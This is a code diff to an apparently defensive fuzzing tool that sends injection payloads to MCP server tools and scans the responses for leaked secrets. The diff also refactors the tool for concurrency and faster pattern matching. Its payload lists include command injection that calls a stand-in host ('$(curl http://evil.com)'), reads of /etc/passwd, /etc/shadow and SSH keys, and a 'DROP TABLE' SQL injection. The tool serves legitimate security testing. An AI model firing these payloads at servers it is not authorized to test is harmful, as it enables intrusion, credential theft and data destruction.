@@ -3,16 +3,81 @@ Dynamic interrogation module using LLM for adversarial fuzzing.
 Discovers MCP tools and generates malicious payloads.
 """
 
+import asyncio
+import itertools
 import json
-from typing import List, Dict, Any, Optional
+from functools import lru_cache
+from typing import List, Dict, Any, Iterator, Optional, Tuple
 from dataclasses import dataclass
 from enum import Enum
 
+import ahocorasick
 import httpx
+import orjson
 from rich.console import Console
 
 console = Console()
 
+# Maximum number of payload requests in flight against the MCP server
+MAX_CONCURRENT_PAYLOADS = 16
+
+# Connection pool for the MCP server client, sized above the payload concurrency
+HTTP_LIMITS = httpx.Limits(max_keepalive_connections=64, max_connections=128)
+
+# Response substrings that indicate a leak, grouped by finding category
+LEAK_PATTERNS = {
+    "credential": (
+        "aws_access_key",
+        "aws_secret",
+        "api_token",
+        "private_key",
+        "password",
+        "ssh",
+    ),
+    "filesystem": ("/etc/passwd", "/etc/shadow", "id_rsa", "root:x:"),
+    "exec": ("uid=", "gid=", "total ", "drwx"),
+}
+
+
+def _build_leak_automaton() -> ahocorasick.Automaton:
+    """Build an Aho-Corasick automaton tagging each leak pattern with its category."""
+    automaton = ahocorasick.Automaton()
+    for category, patterns in LEAK_PATTERNS.items():
+        for pattern in patterns:
+            automaton.add_word(pattern, (category, pattern))
+    automaton.make_automaton()
+    return automaton
+
+
+LEAK_AUTOMATON = _build_leak_automaton()
+
+
+def _loads_json(content: bytes) -> Any:
+    """
+    Decode a JSON response body.
+
+    orjson rejects NaN/Infinity and integers wider than 64 bits, which the
+    stdlib parser accepts, so those bodies fall back to json.loads rather than
+    being reported as failures and skipping the leak scan.
+    """
+    try:
+        return orjson.loads(content)
+    except orjson.JSONDecodeError:
+        return json.loads(content)
+
+
+def _iter_strings(obj: Any) -> Iterator[str]:
+    """Yield the string keys and leaves of a decoded JSON value."""
+    if isinstance(obj, str):
+        yield obj
+    elif isinstance(obj, dict):
+        for key, value in obj.items():
+            yield key
+            yield from _iter_strings(value)
+    elif isinstance(obj, list):
+        for item in obj:
+            yield from _iter_strings(item)
+
 
 class AttackType(str, Enum):
     """Types of attacks to generate."""
@@ -25,7 +90,7 @@ class AttackType(str, Enum):
     XXE = "xxe"
 
 
-@dataclass
+@dataclass(slots=True)
 class FuzzPayload:
     """A fuzzing payload for testing."""
 
@@ -36,7 +101,7 @@ class FuzzPayload:
     is_malicious: bool
 
 
-@dataclass
+@dataclass(slots=True)
 class FuzzResult:
     """Result from executing a fuzz payload."""
 
@@ -48,13 +113,111 @@ class FuzzResult:
     suspicious_behavior: List[str]
 
 
+# Command injection patterns
+CMD_INJECTION_PATTERNS = (
+    "; ls -la",
+    "| cat /etc/passwd",
+    "&& whoami",
+    "`id`",
+    "$(curl http://evil.com)",
+)
+
+# Path traversal patterns
+PATH_TRAVERSAL_PATTERNS = (
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\system32\\config\\sam",
+    "/etc/shadow",
+    "../../.ssh/id_rsa",
+)
+
+# SQL injection patterns
+SQL_INJECTION_PATTERNS = (
+    "' OR '1'='1",
+    "'; DROP TABLE users--",
+    "admin'--",
+    "1' UNION SELECT * FROM users--",
+)
+
+# (attack type, patterns, description prefix) for each property-level attack
+ATTACK_TABLE = (
+    (AttackType.COMMAND_INJECTION, CMD_INJECTION_PATTERNS[:2], "Command injection"),
+    (AttackType.PATH_TRAVERSAL, PATH_TRAVERSAL_PATTERNS[:2], "Path traversal"),
+    (AttackType.SQL_INJECTION, SQL_INJECTION_PATTERNS[:2], "SQL injection"),
+)
+
+
+@lru_cache(maxsize=128)
+def _manual_payloads_for(
+    tool_name: str, props_key: Tuple[Tuple[str, str], ...]
+) -> Tuple[FuzzPayload, ...]:
+    """
+    Build the hardcoded payloads for a tool schema shape.
+
+    Memoized on the tool name and its (property, type) pairs, so repeated
+    campaigns against the same tool reuse the payloads. The returned
+    payloads are shared between calls and must not be mutated.
+
+    Args:
+        tool_name: Name of the tool
+        props_key: (property name, JSON type) pairs from the input schema
+
+    Returns:
+        Tuple of FuzzPayload objects
+    """
+    string_props = [prop_name for prop_name, prop_type in props_key if prop_type == "string"]
+
+    # Every attack pattern against every string property
+    payloads = [
+        FuzzPayload(
+            tool_name=tool_name,
+            attack_type=attack_type,
+            payload={prop_name: pattern},
+            description=f"{description} via {prop_name}",
+            is_malicious=True,
+        )
+        for prop_name, (attack_type, patterns, description) in itertools.product(
+            string_props, ATTACK_TABLE
+        )
+        for pattern in patterns
+    ]
+
+    # Add some valid payloads
+    if props_key:
+        valid_payload = {}
+        for prop_name, prop_type in props_key:
+            if prop_type == "string":
+                valid_payload[prop_name] = "test"
+            elif prop_type == "number":
+                valid_payload[prop_name] = 42
+            elif prop_type == "boolean":
+                valid_payload[prop_name] = True
+
+        payloads.append(
+            FuzzPayload(
+                tool_name=tool_name,
+                attack_type=AttackType.COMMAND_INJECTION,
+                payload=valid_payload,
+                description="Valid baseline payload",
+                is_malicious=False,
+            )
+        )
+
+    return tuple(payloads)
+
+
 class MCPInterrogator:
     """Interrogates MCP servers with adversarial payloads."""
 
     def __init__(self, server_url: str, anthropic_api_key: Optional[str] = None):
         self.server_url = server_url
         self.anthropic_api_key = anthropic_api_key
-        self.client = httpx.AsyncClient(timeout=30.0)
+        # A transport passed to the client takes precedence over the client's
+        # http2/limits arguments, so configure them on the transport
+        self.client = httpx.AsyncClient(
+            timeout=30.0,
+            transport=httpx.AsyncHTTPTransport(http2=True, limits=HTTP_LIMITS, retries=1),
+        )
+        self._leak_automaton = LEAK_AUTOMATON
 
     async def discover_tools(self) -> List[Dict[str, Any]]:
         """
@@ -69,7 +232,7 @@ class MCPInterrogator:
             response = await self.client.post(f"{self.server_url}/tools/list", json={})
             response.raise_for_status()
 
-            data = response.json()
+            data = _loads_json(response.content)
             tools = data.get("tools", [])
 
             console.print(f"[green]Found {len(tools)} tools[/green]")
@@ -118,97 +281,12 @@ class MCPInterrogator:
         input_schema = tool_schema.get("inputSchema", {})
         properties = input_schema.get("properties", {})
 
-        payloads = []
-
-        # Command injection patterns
-        cmd_injection_patterns = [
-            "; ls -la",
-            "| cat /etc/passwd",
-            "&& whoami",
-            "`id`",
-            "$(curl http://evil.com)",
-        ]
-
-        # Path traversal patterns
-        path_traversal_patterns = [
-            "../../../../etc/passwd",
-            "..\\..\\..\\windows\\system32\\config\\sam",
-            "/etc/shadow",
-            "../../.ssh/id_rsa",
-        ]
-
-        # SQL injection patterns
-        sql_injection_patterns = [
-            "' OR '1'='1",
-            "'; DROP TABLE users--",
-            "admin'--",
-            "1' UNION SELECT * FROM users--",
-        ]
-
-        # For each property in the schema, generate payloads
-        for prop_name, prop_spec in properties.items():
-            prop_type = prop_spec.get("type", "string")
-
-            if prop_type == "string":
-                # Command injection
-                for pattern in cmd_injection_patterns[:2]:
-                    payloads.append(
-                        FuzzPayload(
-                            tool_name=tool_name,
-                            attack_type=AttackType.COMMAND_INJECTION,
-                            payload={prop_name: pattern},
-                            description=f"Command injection via {prop_name}",
-                            is_malicious=True,
-                        )
-                    )
-
-                # Path traversal
-                for pattern in path_traversal_patterns[:2]:
-                    payloads.append(
-                        FuzzPayload(
-                            tool_name=tool_name,
-                            attack_type=AttackType.PATH_TRAVERSAL,
-                            payload={prop_name: pattern},
-                            description=f"Path traversal via {prop_name}",
-                            is_malicious=True,
-                        )
-                    )
-
-                # SQL injection
-                for pattern in sql_injection_patterns[:2]:
-                    payloads.append(
-                        FuzzPayload(
-                            tool_name=tool_name,
-                            attack_type=AttackType.SQL_INJECTION,
-                            payload={prop_name: pattern},
-                            description=f"SQL injection via {prop_name}",
-                            is_malicious=True,
-                        )
-                    )
-
-        # Add some valid payloads
-        if properties:
-            valid_payload = {}
-            for prop_name, prop_spec in properties.items():
-                prop_type = prop_spec.get("type", "string")
-                if prop_type == "string":
-                    valid_payload[prop_name] = "test"
-                elif prop_type == "number":
-                    valid_payload[prop_name] = 42
-                elif prop_type == "boolean":
-                    valid_payload[prop_name] = True
-
-            payloads.append(
-                FuzzPayload(
-                    tool_name=tool_name,
-                    attack_type=AttackType.COMMAND_INJECTION,
-                    payload=valid_payload,
-                    description="Valid baseline payload",
-                    is_malicious=False,
-                )
-            )
-
-        return payloads
+        # str() keeps the key hashable for union types such as ["string", "null"]
+        props_key = tuple(
+            (prop_name, str(prop_spec.get("type", "string")))
+            for prop_name, prop_spec in properties.items()
+        )
+        return list(_manual_payloads_for(tool_name, props_key))
 
     async def _generate_llm_payloads(
         self, tool_schema: Dict[str, Any], num_valid: int, num_malicious: int
@@ -238,34 +316,23 @@ class MCPInterrogator:
                 json={"name": payload.tool_name, "arguments": payload.payload},
             )
 
-            response_data = response.json()
-
-            # Check for data leaks
-            response_text = json.dumps(response_data).lower()
-
-            # Check for sensitive data patterns
-            if any(
-                pattern in response_text
-                for pattern in [
-                    "aws_access_key",
-                    "aws_secret",
-                    "api_token",
-                    "private_key",
-                    "password",
-                    "ssh",
-                ]
-            ):
+            response_data = _loads_json(response.content)
+
+            # Match leak patterns against each string in the response,
+            # stopping once every category has been seen
+            categories = set()
+            for text in _iter_strings(response_data):
+                categories.update(cat for _, (cat, _) in self._leak_automaton.iter(text.lower()))
+                if len(categories) == len(LEAK_PATTERNS):
+                    break
+
+            if "credential" in categories:
                 leaked_data.append("Potential credential leak detected")
 
-            # Check for file system leaks
-            if any(
-                pattern in response_text
-                for pattern in ["/etc/passwd", "/etc/shadow", "id_rsa", "root:x:"]
-            ):
+            if "filesystem" in categories:
                 leaked_data.append("File system information leaked")
 
-            # Check for command execution
-            if any(pattern in response_text for pattern in ["uid=", "gid=", "total ", "drwx"]):
+            if "exec" in categories:
                 suspicious_behavior.append("Possible command execution")
 
             return FuzzResult(
@@ -288,16 +355,23 @@ class MCPInterrogator:
             )
 
     async def run_fuzzing_campaign(
-        self, tools: Optional[List[Dict[str, Any]]] = None
+        self,
+        tools: Optional[List[Dict[str, Any]]] = None,
+        max_concurrency: int = MAX_CONCURRENT_PAYLOADS,
     ) -> List[FuzzResult]:
         """
         Run a complete fuzzing campaign against all tools.
 
+        Payloads for all tools are executed concurrently, with at most
+        max_concurrency requests in flight. Findings are reported per tool
+        once its payloads have completed.
+
         Args:
             tools: List of tools to fuzz, or None to discover automatically
+            max_concurrency: Maximum number of concurrent payload requests
 
         Returns:
-            List of FuzzResult objects
+            List of FuzzResult objects, grouped by tool in payload order
         """
         if tools is None:
             tools = await self.discover_tools()
@@ -306,22 +380,29 @@ class MCPInterrogator:
             console.print("[yellow]No tools to fuzz[/yellow]")
             return []
 
-        all_results = []
+        semaphore = asyncio.Semaphore(max_concurrency)
 
-        for tool in tools:
-            console.print(f"[bold]Fuzzing tool: {tool.get('name')}[/bold]")
+        async def _run(payload: FuzzPayload) -> FuzzResult:
+            async with semaphore:
+                return await self.execute_payload(payload)
 
-            # Generate payloads
+        async def _fuzz_tool(tool: Dict[str, Any]) -> List[FuzzResult]:
             payloads = await self.generate_adversarial_payloads(tool)
+            return await asyncio.gather(*(_run(payload) for payload in payloads))
+
+        tool_results = await asyncio.gather(*(_fuzz_tool(tool) for tool in tools))
+
+        all_results = []
+
+        for tool, results in zip(tools, tool_results):
+            console.print(f"[bold]Fuzzing tool: {tool.get('name')}[/bold]")
 
-            # Execute payloads
-            for payload in payloads:
-                result = await self.execute_payload(payload)
+            for result in results:
                 all_results.append(result)
 
                 # Report findings
                 if result.leaked_data or result.suspicious_behavior:
-                    console.print(f"[red]⚠ ALERT: {payload.description}[/red]")
+                    console.print(f"[red]⚠ ALERT: {result.payload.description}[/red]")
                     if result.leaked_data:
                         console.print(f"  Leaked data: {result.leaked_data}")
                     if result.suspicious_behavior: